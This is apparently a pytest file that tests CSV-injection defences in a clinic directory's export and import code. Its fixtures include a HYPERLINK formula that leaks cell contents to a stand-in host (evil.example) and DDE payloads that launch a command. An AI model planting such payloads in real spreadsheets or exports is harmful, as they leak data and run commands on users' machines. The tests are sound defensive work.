"""Both CSV exports are safe to open in a spreadsheet, and the clinic export still round-trips."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select
from sqlalchemy.engine import Engine

import web.portal
from bot.csv_safety import neutralise_cell, restore_cell
from bot.db import session_scope
from bot.directory.csv_io import COLUMNS, export_csv, import_csv
from bot.models import Clinic
from tests.clinic_factory import make_clinic

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
HOSTILE = {
    "name": HOSTILE_NAME,
    "notes": "+cmd|' /C calc'!A0",
    "insurance_notes": "-2+3+cmd|' /C calc'!A0",
    "languages": ["@SUM(1+1)*cmd|' /C calc'!A0", "English"],
    "phone": "+1 404 555 0100",
}
TRICKY = [
    "",
    "plain",
    "=1+1",
    "+1 404 555 0100",
    "-84.40000",
    "-2+3",
    "@SUM(A1)",
    "\tTab",
    "\rCR",
    "'",
    "'plain",
    "'=already quoted",
    "''+twice",
    "O'Brien",
    "-",
    "=",
    "'-84.4",
]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("-84.40000", "-84.40000"),
        ("-73", "-73"),
        ("plain", "plain"),
        ("O'Brien", "O'Brien"),
        (None, ""),
        (3, "3"),
    ],
)
def test_cells_a_spreadsheet_would_run_get_an_apostrophe(value: object, expected: str) -> None:
    assert neutralise_cell(value) == expected


@pytest.mark.parametrize("value", TRICKY)
def test_restoring_undoes_exactly_one_neutralising_apostrophe(value: str) -> None:
    assert restore_cell(neutralise_cell(value)) == value


def test_the_portal_uses_the_same_function() -> None:
    assert web.portal.neutralise_cell is neutralise_cell


def export(engine: Engine) -> str:
    buffer = io.StringIO()
    with session_scope(engine) as session:
        export_csv(session, buffer)
    return buffer.getvalue()


def rows_of(exported: str) -> dict[str, dict[str, str]]:
    return {row["ref"]: row for row in csv.DictReader(io.StringIO(exported))}


def test_the_clinic_export_neutralises_formulas_and_round_trips(engine: Engine) -> None:
    with session_scope(engine) as session:
        hostile = make_clinic("hostile", 33.7, -84.4, verified_by="@admin")
        for name, value in HOSTILE.items():
            setattr(hostile, name, value)
        session.add_all([hostile, make_clinic("normal", 33.8, -84.3)])
    first = export(engine)
    rows = rows_of(first)
    attack = rows["hostile"]
    assert attack["name"] == "'" + HOSTILE_NAME
    assert attack["notes"] == "'" + HOSTILE["notes"]
    assert attack["insurance_notes"] == "'" + HOSTILE["insurance_notes"]
    assert attack["languages"].startswith("'@SUM(")
    assert attack["phone"] == "'+1 404 555 0100" and attack["verified_by"] == "'@admin"
    assert attack["longitude"] == "-84.40000"  # a plain number is not a formula
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or column == "longitude", (column, cell)
    normal = rows["normal"]
    assert normal["name"] == "Clinic normal (sample)" and normal["phone"] == "(404) 555-0100"

    with session_scope(engine) as session:
        report = import_csv(session, io.StringIO(first))
    assert sorted(report.updated) == ["hostile", "normal"] and report.rejected == []
    with session_scope(engine) as session:
        stored = session.execute(select(Clinic).where(Clinic.ref == "hostile")).scalar_one()
        assert stored.name == HOSTILE_NAME and stored.notes == HOSTILE["notes"]
        assert stored.insurance_notes == HOSTILE["insurance_notes"] and stored.phone == HOSTILE["phone"]
        assert stored.languages == HOSTILE["languages"] and stored.credentials[0].verified_by == "@admin"
    assert export(engine) == first


@pytest.mark.parametrize(
    "cell, stored",
    [
        ("'=1+1 in notes", "=1+1 in notes"),
        ("''=quoted twice", "'=quoted twice"),
        ("'plain with an apostrophe", "'plain with an apostrophe"),
        ("O'Brien's notes", "O'Brien's notes"),
    ],
)
def test_the_import_strips_one_apostrophe_before_a_formula_character_only(
    engine: Engine, cell: str, stored: str
) -> None:
    with session_scope(engine) as session:
        session.add(make_clinic("source", 33.7, -84.4))
    record = rows_of(export(engine))["source"]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerow({**record, "ref": "typed", "notes": cell})
    with session_scope(engine) as session:
        assert import_csv(session, io.StringIO(buffer.getvalue())).created == ["typed"]
    with session_scope(engine) as session:
        assert session.execute(select(Clinic.notes).where(Clinic.ref == "typed")).scalar_one() == stored
    assert rows_of(export(engine))["typed"]["notes"] == neutralise_cell(stored)
